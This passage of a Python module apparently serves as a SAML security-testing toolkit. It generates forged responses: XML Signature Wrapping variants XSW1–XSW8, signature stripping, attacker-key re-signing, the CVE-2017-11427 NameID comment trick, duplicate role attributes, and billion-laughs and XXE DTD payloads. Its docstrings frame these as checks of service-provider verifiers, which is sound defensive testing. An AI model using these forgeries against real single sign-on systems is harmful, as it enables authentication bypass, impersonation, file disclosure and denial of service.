        cipher_value = enc_data.find(f"{_q(NS_XENC, 'CipherData')}/{_q(NS_XENC, 'CipherValue')}")
    else:
        cipher_value = enc_data.find(
            f".//{_q(NS_XENC, 'EncryptedKey')}//{_q(NS_XENC, 'CipherValue')}"
        )
    if cipher_value is None or not cipher_value.text:
        raise ValueError(f"no {which} CipherValue")
    raw = bytearray(base64.b64decode("".join(cipher_value.text.split())))
    raw[len(raw) // 2] ^= 0x01
    cipher_value.text = base64.b64encode(bytes(raw)).decode("ascii")
    return to_bytes(root)


# --------------------------------------------------------------------------- XSW


EVIL_NAME_ID = "E0001-ceo"
EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"


def xsw(signed_xml: XmlInput, n: int, evil_name_id: str = EVIL_NAME_ID) -> bytes:
    """XML Signature Wrapping attack ``XSW<n>``, exactly as SAMLRaider builds it.

    Each variant keeps the signed original where the signature's ``Reference URI``
    still finds it (so the digest still matches) and puts an evil copy, whose NameID is
    ``evil_name_id``, where a careless SP reads its data. "Evil" below is that copy;
    IDs are SAMLRaider's ``_evil_response_ID`` / ``_evil_assertion_ID``.

    Response level (the Response must be signed):

    * XSW1: the root Response becomes the evil one (new ID, its own Assertion evil);
      an unsigned copy of the original Response is appended INSIDE its ds:Signature.
    * XSW2: like XSW1, but the original copy goes right BEFORE the ds:Signature, as a
      sibling (a detached signature over an enclosed element).

    Assertion level (the Assertion must be signed):

    * XSW3: an evil unsigned Assertion (new ID) is inserted BEFORE the signed one.
    * XSW4: an evil unsigned Assertion (new ID) is appended to the Response and the
      signed Assertion is moved INSIDE it (the evil one wraps the original).
    * XSW5: the signed Assertion becomes evil (new ID, keeps the now-dangling
      ds:Signature); an unsigned copy of the original is appended to the Response.
    * XSW6: like XSW5, but the original copy goes INSIDE the evil Assertion's
      ds:Signature.
    * XSW7: an evil unsigned copy WITH THE SAME ID goes into an (unqualified)
      ``Extensions`` element inserted before the signed Assertion.
    * XSW8: the signed Assertion becomes evil (same ID, keeps its ds:Signature); an
      unsigned copy of the original goes into an (unqualified) ``Object`` element
      appended to that ds:Signature. SAMLRaider uses unqualified ``Extensions`` and
      ``Object``, not ``samlp:Extensions`` / ``ds:Object``; so does this function.
    """
    root = parse(signed_xml)
    ds_sig = _q(NS_DS, "Signature")
    if n in (1, 2):
        signature = _own_signature(root)
        if signature is None:
            raise ValueError(f"XSW{n} wraps a signed Response; this Response is not signed")
        original = copy.deepcopy(root)
        original_sig = _own_signature(original)
        assert original_sig is not None
        original.remove(original_sig)
        _set_name_id(root, evil_name_id)  # the outer Response is the evil one
        if n == 1:
            signature.append(original)
        else:
            signature.addprevious(original)
        root.set("ID", EVIL_RESPONSE_ID)
        return to_bytes(root)

    if not 3 <= n <= 8:
        raise ValueError(f"XSW{n}: n must be 1..8")
    assertion = _assertion(root)
    signature = assertion.find(ds_sig)
    if signature is None:
        raise ValueError(f"XSW{n} wraps a signed Assertion; this Assertion is not signed")

    if n in (3, 4, 7):
        evil = copy.deepcopy(assertion)
        _set_name_id(evil, evil_name_id)
        evil_sig = evil.find(ds_sig)
        assert evil_sig is not None
        evil.remove(evil_sig)
        if n == 3:
            evil.set("ID", EVIL_ASSERTION_ID)
            assertion.addprevious(evil)
        elif n == 4:
            evil.set("ID", EVIL_ASSERTION_ID)
            root.append(evil)
            evil.append(assertion)
        else:
            extensions = etree.Element("Extensions")
            assertion.addprevious(extensions)
            extensions.append(evil)
        return to_bytes(root)

    # 5, 6, 8: the signed assertion in place becomes the evil one, a clean copy moves.
    original = copy.deepcopy(assertion)
    original_sig = original.find(ds_sig)
    assert original_sig is not None
    original.remove(original_sig)
    _set_name_id(assertion, evil_name_id)
    if n == 5:
        root.append(original)
        assertion.set("ID", EVIL_ASSERTION_ID)
    elif n == 6:
        signature.append(original)
        assertion.set("ID", EVIL_ASSERTION_ID)
    else:
        obj = etree.SubElement(signature, "Object")
        obj.append(original)
    return to_bytes(root)


# --------------------------------------------------------------------------- signatures


def _signatures(root: etree._Element, target: Target | Literal["all"]) -> list[etree._Element]:
    if target == "all":
        return list(root.iter(_q(NS_DS, "Signature")))
    signature = _own_signature(_target(root, target))
    return [] if signature is None else [signature]


def strip_signature(xml: XmlInput, *, target: Target | Literal["all"] = "all") -> bytes:
    """Remove the ds:Signature of the target (default: every signature in the document)."""
    root = parse(xml)
    for signature in _signatures(root, target):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    return to_bytes(root)


def empty_signature_value(xml: XmlInput, *, target: Target | Literal["all"] = "all") -> bytes:
    """Keep the Signature and SignedInfo but empty the ``ds:SignatureValue`` text."""
    root = parse(xml)
    for signature in _signatures(root, target):
        value = signature.find(_q(NS_DS, "SignatureValue"))
        if value is not None:
            value.text = ""
    return to_bytes(root)


def empty_signature(xml: XmlInput, *, target: Target | Literal["all"] = "all") -> bytes:
    """Replace the Signature by an empty ``<ds:Signature/>`` (no SignedInfo, no value).

    A verifier that merely checks "a Signature element is present" accepts it.
    """
    root = parse(xml)
    for signature in _signatures(root, target):
        for child in list(signature):
            signature.remove(child)
        signature.text = None
    return to_bytes(root)


def signature_on_other_element(
    spec: ResponseSpec,
    keys: KeyPair,
    *,
    mode: Literal["response_only", "reference_elsewhere"] = "response_only",
) -> bytes:
    """A valid signature that does not vouch for the Assertion the way the SP wants.

    * ``response_only``: only the Response is signed; the Assertion is unsigned. Fine
      for an SP that accepts message signatures, refused when it wants signed assertions.
    * ``reference_elsewhere``: the ds:Signature sits inside the Assertion but its
      Reference points at the Response's ID (cryptographically valid: it covers the
      whole Response). A verifier must check that the Reference names the Signature's
      parent.
    """
    root = build_response(spec)
    if mode == "response_only":
        _sign_element(root, root, keys.key_pem, keys.cert_pem)
    elif mode == "reference_elsewhere":
        _sign_element(
            root, _assertion(root), keys.key_pem, keys.cert_pem, reference_id=spec.response_id
        )
    else:
        raise ValueError(f"unknown mode {mode!r}")
    return to_bytes(root)


_SIG_ALGS: dict[str, XmlsecTransform] = {
    t.href: t for t in (RSA_SHA1, RSA_SHA256, RSA_SHA384, RSA_SHA512, ECDSA_SHA256)
}
_DIGEST_ALGS: dict[str, XmlsecTransform] = {t.href: t for t in (SHA1, SHA256, SHA512)}


def replace_keyinfo(
    signed_xml: XmlInput,
    attacker: KeyPair,
    *,
    evil_name_id: str | None = None,
) -> bytes:
    """Re-sign every signed element with the attacker's key and put the attacker's cert
    in KeyInfo, keeping the algorithms; optionally set the NameID to ``evil_name_id`` first.

    The result verifies against the certificate it carries. An SP that takes the key
    from KeyInfo instead of its configured IdP certificate accepts it.
    """
    root = parse(signed_xml)
    targets: tuple[Target, ...] = ("assertion", "response")  # inside out
    algorithms: dict[Target, tuple[XmlsecTransform, XmlsecTransform]] = {}
    for target in targets:
        signature = _own_signature(_target(root, target))
        if signature is None:
            continue
        sig_method = signature.find(f".//{_q(NS_DS, 'SignatureMethod')}")
        digest_method = signature.find(f".//{_q(NS_DS, 'DigestMethod')}")
        assert sig_method is not None and digest_method is not None
        algorithms[target] = (
            _SIG_ALGS[sig_method.get("Algorithm", "")],
            _DIGEST_ALGS[digest_method.get("Algorithm", "")],
        )
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    if not algorithms:
        raise ValueError("nothing is signed")
    if evil_name_id is not None:
        _set_name_id(root, evil_name_id)
    for target in targets:
        if target in algorithms:
            sig_alg, digest_alg = algorithms[target]
            _sign_element(
                root,
                _target(root, target),
                attacker.key_pem,
                attacker.cert_pem,
                sig_alg=sig_alg,
                digest_alg=digest_alg,
            )
    return to_bytes(root)


# --------------------------------------------------------------------------- content attacks


def comment_in_name_id(
    spec: ResponseSpec,
    keys: KeyPair,
    *,
    visible: str = "E1001",
    hidden: str = ".evil",
    target: Target = "assertion",
) -> bytes:
    """NameID ``<visible><!----><hidden>``, properly signed (CVE-2017-11427 family).

    The attacker registers ``E1001.evil`` at the IdP, gets it signed, and inserts an
    empty comment after ``E1001``. Exclusive c14n WITHOUT comments (and the ``#ID``
    same-document Reference) drops comments before digesting, so the signature over
    ``E1001.evil`` stays valid. An SP that reads only the first text node of NameID
    (``node.text`` in lxml, ``firstChild`` in DOM) logs the attacker in as ``E1001``.
    Here the comment is put in before signing, which yields the same digest.
    """
    root = build_response(spec)
    name_id = _assertion(root).find(f"{_q(NS_SAML, 'Subject')}/{_q(NS_SAML, 'NameID')}")
    assert name_id is not None
    name_id.text = visible
    comment = etree.Comment("")
    comment.tail = hidden
    name_id.append(comment)
    return sign(root, keys.key_pem, keys.cert_pem, target=target)


def duplicate_attribute(
    spec: ResponseSpec,
    keys: KeyPair,
    *,
    name: str | None = None,
    values: Sequence[str] = ("admin",),
    target: Target = "assertion",
) -> bytes:
    """A signed Assertion whose AttributeStatement has the attribute ``name`` twice.

    The second ``saml:Attribute`` with the same Name (default: the first attribute of
    the spec) carries ``values``. Whether an SP takes the first, the last, or merges
    them decides who gets which role; a strict SP refuses the repetition.
    """
    root = build_response(spec)
    statement = _assertion(root).find(_q(NS_SAML, "AttributeStatement"))
    if statement is None or not len(statement):
        raise ValueError("the spec has no attributes to duplicate")
    if name is None:
        first = statement[0]
    else:
        matches = [a for a in statement if a.get("Name") == name]
        if not matches:
            raise ValueError(f"no attribute {name!r} in the spec")
        first = matches[0]
    attr_name = first.get("Name")
    assert attr_name is not None
    first.addnext(
        _build_attribute(attr_name, values, first.get("FriendlyName"), first.get("NameFormat"))
    )
    return sign(root, keys.key_pem, keys.cert_pem, target=target)


# --------------------------------------------------------------------------- DTD attacks


def _with_dtd(
    xml: XmlInput,
    entities: Mapping[str, str],
    *,
    text_entity: str | None = None,
    attribute: tuple[str, str] | None = None,
) -> bytes:
    """Insert ``<!DOCTYPE root [entities]>`` and entity references into ``xml``.

    ``entities`` maps a name to a complete declaration body (what follows
    ``<!ENTITY name ``). ``text_entity`` replaces the first NameID's text by
    ``&name;``; ``attribute`` = (attribute name, entity name) replaces the root's
    attribute value by ``&entity;``.
    """
    root = parse(xml)
    marker = "__saml_forge_entity__"
    if text_entity is not None:
        name_id = next(root.iter(_q(NS_SAML, "NameID")), None)
        if name_id is None:
            raise ValueError("no NameID to put the entity reference in")
        for child in list(name_id):
            name_id.remove(child)
        name_id.text = None
        name_id.append(etree.Entity(text_entity))
    if attribute is not None:
        attr, _entity = attribute
        if root.get(attr) is None:
            raise ValueError(f"the root has no {attr} attribute")
        root.set(attr, marker)
    body = to_bytes(root)
    if attribute is not None:
        body = body.replace(marker.encode(), f"&{attribute[1]};".encode(), 1)
    root_name = (
        root.prefix + ":" + etree.QName(root).localname
        if root.prefix
        else etree.QName(root).localname
    )
    decls = "".join(f"<!ENTITY {name} {decl}>" for name, decl in entities.items())
    return f"<!DOCTYPE {root_name} [{decls}]>\n".encode() + body


def _dtd_literal(value: str) -> str:
    """A quoted entity value: '&', '%' and '"' become character references."""
    return '"' + value.replace("&", "&#38;").replace("%", "&#37;").replace('"', "&#34;") + '"'


def with_doctype_entities(
    xml: XmlInput, *, attribute: str = "Destination", entity: str = "dest"
) -> bytes:
    """Add an internal DTD declaring ``entity`` as the root's ``attribute`` value, and
    write that attribute as ``&entity;``.

    A parser that expands internal entities sees the original document (a signature
    stays valid); the DTD itself is what must be refused: SAML forbids DTDs
    (SAML core 2.0, section 1.3 / the bindings' "MUST NOT contain a DTD").
    """
    root = parse(xml)
    value = root.get(attribute)
    if value is None:
        raise ValueError(f"the root has no {attribute} attribute")
    return _with_dtd(xml, {entity: _dtd_literal(value)}, attribute=(attribute, entity))


def billion_laughs(xml: XmlInput | None = None, *, depth: int = 10, width: int = 10) -> bytes:
    """The billion laughs DTD (``lol0``..``lol<depth-1>``, each ``width`` times the one
    before) with ``&lol<depth-1>;`` as the NameID text of ``xml`` (default: a fresh
    unsigned default Response). Fully expanded: ``3 * width**(depth-1)`` bytes (3 GB
    for the defaults). NEVER parse it with entity expansion in a test.
    """
    if xml is None:
        xml = build_response(ResponseSpec())
    entities = {"lol0": '"lol"'}
    for level in range(1, depth):
        entities[f"lol{level}"] = '"' + f"&lol{level - 1};" * width + '"'
    return _with_dtd(xml, entities, text_entity=f"lol{depth - 1}")


def xxe_external(url_or_file: str, xml: XmlInput | None = None) -> bytes:
    """An external general entity ``xxe`` (SYSTEM ``url_or_file``) as the NameID text.

    A parser that resolves external entities reads the file / fetches the URL and puts
    its content in NameID (file disclosure, SSRF). ``xml`` defaults to a fresh unsigned
    default Response.
    """
    if xml is None:
        xml = build_response(ResponseSpec())
    quote = "'" if '"' in url_or_file else '"'
    return _with_dtd(xml, {"xxe": f"SYSTEM {quote}{url_or_file}{quote}"}, text_entity="xxe")
